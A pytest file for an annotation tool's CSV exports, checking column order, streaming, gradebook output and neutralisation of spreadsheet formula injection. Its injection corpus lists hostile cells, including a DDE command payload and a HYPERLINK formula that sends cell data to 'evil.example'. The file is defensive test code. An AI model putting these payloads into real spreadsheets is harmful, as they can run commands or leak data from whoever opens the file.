"""CSV exports: column order, formula-injection neutralising, streaming, gradebook."""

from __future__ import annotations

import csv
import io
import math

import pytest

from annotator.domain.formats import annotations_csv, answers_csv, gradebook_columns, results_csv
from annotator.domain.formats.csv_safe import needs_neutralising, neutralise_cell, restore_cell

#: Cells a spreadsheet would evaluate, or that try to dodge a naive check.
INJECTION_CORPUS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "=1+1\n=2+2",
    "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "'=already quoted",
    "''@twice",
]
HARMLESS = ["", "plain", " =leading space", "1-2", "a=b", "'apostrophe", "„=“", "😂=", "'"]


def parse(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks), newline="")))


def test_annotation_columns_start_with_the_requested_ones(make_annotation):
    header, row = parse(annotations_csv([make_annotation(note="ok")]))
    assert header[:13] == [
        "project",
        "article_id",
        "title",
        "url",
        "reviewer",
        "layer",
        "label",
        "start",
        "end",
        "quote",
        "note",
        "created",
        "updated",
    ]
    assert header[13:] == ["id", "version", "gold", "reviewer_name", "label_name"]
    values = dict(zip(header, row, strict=True))
    assert values["start"] == "0" and values["end"] == "7" and values["quote"] == "Größere"
    assert values["created"] == "2022-02-16T10:00:00Z"
    assert values["updated"] == "2022-02-16T10:05:30.125000Z"
    assert values["gold"] == "false" and values["url"] == "https://news.example/a/1"


@pytest.mark.parametrize("payload", INJECTION_CORPUS)
def test_every_text_cell_is_neutralised(make_annotation, make_answer, payload):
    text = payload + " Text"
    record = make_annotation(
        text=text,
        start=0,
        end=len(payload),
        project=payload,
        article_title=payload,
        article_url=payload,
        reviewer=payload,
        layer=payload,
        label=payload,
        note=payload,
        reviewer_name=payload,
        label_name=payload,
    )
    header, row = parse(annotations_csv([record]))
    numeric = {"article_id", "start", "end", "id", "version", "gold", "created", "updated"}
    for column, cell in zip(header, row, strict=True):
        if column not in numeric:
            assert cell == "'" + payload, column
            assert restore_cell(cell) == payload
    answer = make_answer(reviewer=payload, question=payload, answer=payload, article_title=payload)
    header, row = parse(answers_csv([answer]))
    for column in ["title", "reviewer", "question", "answer"]:
        assert row[header.index(column)] == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_left_alone(text):
    assert neutralise_cell(text) == text and restore_cell(text) == text


@pytest.mark.parametrize("text", INJECTION_CORPUS + HARMLESS)
def test_neutralising_is_reversible_and_idempotent_under_restore(text):
    safe = neutralise_cell(text)
    assert restore_cell(safe) == text
    assert not safe or safe[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
    assert needs_neutralising(text) == (safe != text)


def test_offsets_and_numbers_are_never_prefixed(make_annotation):
    _, row = parse(annotations_csv([make_annotation(id=12, version=3)]))
    assert not any(cell.startswith("'") for cell in row)


def test_bom_and_crlf(make_annotation):
    text = "".join(annotations_csv([make_annotation()], bom=True))
    assert text.startswith("\ufeffproject,")
    assert text.count("\r\n") == 2


def test_streams_in_chunks(make_annotation):
    records = (make_annotation() for _ in range(5000))
    chunks = list(annotations_csv(records))
    assert len(chunks) >= 3
    assert len(parse(chunks)) == 5001


def test_multiline_and_quoted_cells_survive(corpus):
    _, annotations = corpus
    header, *rows = parse(annotations_csv(annotations))
    quotes = [restore_cell(row[header.index("quote")]) for row in rows]
    notes = [restore_cell(row[header.index("note")]) for row in rows]
    assert quotes == [a.quote for a in annotations]
    assert notes == [a.note for a in annotations]


def test_answers_columns(make_answer):
    header, row = parse(answers_csv([make_answer()]))
    assert header == [
        "project",
        "article_id",
        "title",
        "reviewer",
        "question",
        "answer",
        "created",
        "updated",
        "id",
        "version",
        "gold",
    ]
    assert row[:6] == ["klasse-7b", "1", "Artikel 1", "alice", "trust", "4"]


def test_gradebook_results():
    columns = gradebook_columns(["framing", "source"])
    assert columns == [
        "reviewer",
        "name",
        "assigned",
        "submitted",
        "annotations_framing",
        "annotations_source",
        "precision",
        "recall",
        "f1",
    ]
    rows = [
        {
            "reviewer": "alice",
            "name": "Alice",
            "assigned": 4,
            "submitted": 3,
            "annotations_framing": 12,
            "annotations_source": 0,
            "precision": 0.8,
            "recall": 2 / 3,
            "f1": 0.72727272,
        },
        {
            "reviewer": "bob",
            "name": "=2+3",
            "assigned": 4,
            "submitted": 0,
            "precision": None,
            "recall": math.nan,
            "f1": None,
        },
    ]
    header, alice, bob = parse(
        results_csv(rows, columns, headers={"f1": "F1 score"}, float_digits=3)
    )
    assert header[-1] == "F1 score"
    assert alice == ["alice", "Alice", "4", "3", "12", "0", "0.800", "0.667", "0.727"]
    assert bob == ["bob", "'=2+3", "4", "0", "", "", "", "", ""]


def test_results_negative_numbers_stay_numbers():
    [_, row] = parse(results_csv([{"delta": -2, "score": -0.5}], ["delta", "score"]))
    assert row == ["-2", "-0.5000"]
